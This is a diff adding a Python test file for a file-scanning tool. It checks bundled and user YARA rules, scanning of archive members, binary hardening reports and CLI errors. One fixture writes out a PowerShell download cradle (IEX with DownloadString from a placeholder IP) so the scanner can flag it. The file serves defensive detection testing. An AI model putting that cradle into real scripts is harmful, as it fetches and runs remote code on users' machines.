@@ -1,0 +1,148 @@
+"""YARA: bundled rules carry and pass their own examples; user rule directories; errors."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yara
+
+from builders import tar_bytes, write, zip_bytes
+from finalexam.analyze import ANALYZERS
+from finalexam.analyze.binary import BinaryAnalyzer
+from finalexam.analyze.yara import RULES_DIR, YaraAnalyzer, example_matches, rule_files
+from finalexam.config import Config
+from finalexam.errors import ConfigError
+from finalexam.exam import run_exam
+from schema import assert_valid_report
+
+BUNDLED = sorted(RULES_DIR.glob("*.yar"))
+
+
+def test_both_analyzers_are_registered() -> None:
+    assert BinaryAnalyzer in ANALYZERS
+    assert YaraAnalyzer in ANALYZERS
+
+
+def _example(meta: dict[str, object], kind: str) -> bytes | None:
+    if f"example_{kind}_hex" in meta:
+        return bytes.fromhex(str(meta[f"example_{kind}_hex"]))
+    if f"example_{kind}" in meta:
+        return str(meta[f"example_{kind}"]).encode()
+    return None
+
+
+@pytest.mark.parametrize("path", BUNDLED, ids=lambda p: p.stem)
+def test_bundled_rule_examples(path: Path) -> None:
+    rules = yara.compile(filepath=str(path))
+    rule = next(iter(rules))
+    meta = dict(rule.meta)
+    for key in ("description", "severity", "kind"):
+        assert meta.get(key), key
+    match, benign = _example(meta, "match"), _example(meta, "benign")
+    assert match is not None and benign is not None, "each rule carries both examples"
+    assert rule.identifier == path.stem  # rule name == file stem
+    assert [m.rule for m in rules.match(data=match)] == [rule.identifier]
+    assert rules.match(data=benign) == []
+    assert example_matches(path.stem, match) and not example_matches(path.stem, benign)
+
+
+def test_matches_nested_files_with_offsets(tmp_path: Path) -> None:
+    cradle = b"# setup\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')\n"
+    target = write(tmp_path / "pkg.zip", zip_bytes({"tools/install.ps1": cradle}))
+    report = run_exam(target, Config())
+    finding = next(f for f in report.findings if f.rule_id == "yara.powershell_download_cradle")
+    assert str(finding.location) == "pkg.zip!/tools/install.ps1"
+    assert finding.severity.value == "high"
+    assert finding.evidence.details["tags"] == ["behavior"]
+    assert finding.evidence.offset == cradle.index(b"IEX")
+    assert "example_match" not in finding.evidence.details["meta"]
+
+
+def test_user_rule_directories_recursive_with_includes(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    write(
+        rules / "common" / "strings.yar",
+        b'rule marker { strings: $a = "ACME-MARKER" condition: $a }\n',
+    )
+    write(
+        rules / "team" / "acme.yara",
+        b'include "../common/strings.yar"\n'
+        b'rule acme_beacon : c2 { meta: severity = "critical" kind = "malicious" '
+        b'strings: $b = "beacon.acme.invalid" condition: $b and marker }\n',
+    )
+    assert len(rule_files([str(rules)])) == len(BUNDLED) + 2
+    target = write(tmp_path / "app.bin", b"xx ACME-MARKER yy beacon.acme.invalid zz")
+    report = run_exam(target, Config(yara_rules=(str(rules),)))
+    found = {f.rule_id: f for f in report.findings}
+    beacon = found["yara.user0/team/acme.yara.acme_beacon"]
+    assert beacon.severity.value == "critical" and beacon.kind.value == "malicious"
+    assert beacon.evidence.details["tags"] == ["c2"]
+
+
+def test_compile_error_is_a_config_error(tmp_path: Path) -> None:
+    write(tmp_path / "bad" / "broken.yar", b"rule broken { condition: nonsense_identifier }\n")
+    with pytest.raises(ConfigError, match="does not compile"):
+        YaraAnalyzer(Config(yara_rules=(str(tmp_path / "bad"),)))
+    with pytest.raises(ConfigError, match="not found"):
+        YaraAnalyzer(Config(yara_rules=(str(tmp_path / "missing"),)))
+
+
+def test_cli_bad_rules_exit_2_one_line(tmp_path: Path) -> None:
+    write(tmp_path / "bad" / "broken.yar", b"rule broken {\n condition: nonsense\n}\n")
+    target = write(tmp_path / "a.txt", b"hello")
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "finalexam",
+            "scan",
+            str(target),
+            "--yara-rules",
+            str(tmp_path / "bad"),
+        ],
+        capture_output=True,
+        text=True,
+        env={**os.environ},
+        check=False,
+    )
+    assert result.returncode == 2
+    assert result.stderr.strip().count("\n") == 0
+    assert re.search(r"YARA rule does not compile: .*broken\.yar", result.stderr)
+    assert "Traceback" not in result.stderr
+
+
+def test_cli_scan_reports_binaries_section(tmp_path: Path) -> None:
+    elf = Path(sys.executable).resolve().read_bytes()
+    target = write(tmp_path / "dist.zip", zip_bytes({"bin/python": elf, "bin/cut": elf[:3000]}))
+    out = tmp_path / "r.json"
+    result = subprocess.run(
+        [sys.executable, "-m", "finalexam", "scan", str(target), "-o", f"json={out}"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode in (0, 1), result.stderr
+    document = json.loads(out.read_text())
+    assert_valid_report(document)
+    (entry,) = document["binaries"]
+    assert entry["location"] == "dist.zip!/bin/python"
+    assert entry["format"] == "elf" and set(entry["hardening"]) >= {"nx", "relro", "canary"}
+    assert any(
+        i["location"] == "dist.zip!/bin/cut" and "corrupt binary" in i["message"]
+        for i in document["issues"]
+    )
+    assert not any(f["severity"] in ("high", "critical") for f in document["findings"])
+
+
+def test_archives_are_scanned_through_their_members(tmp_path: Path) -> None:
+    pe = bytes.fromhex("4d5a" + "00" * 58 + "40000000" + "50450000")
+    target = write(tmp_path / "dist.tar", tar_bytes({"pad.txt": "x" * 700, "lib/tool.dll": pe}))
+    report = run_exam(target, Config())
+    embedded = [f for f in report.findings if f.rule_id == "yara.embedded_pe"]
+    assert embedded == []  # the DLL starts at offset 0 of its own member
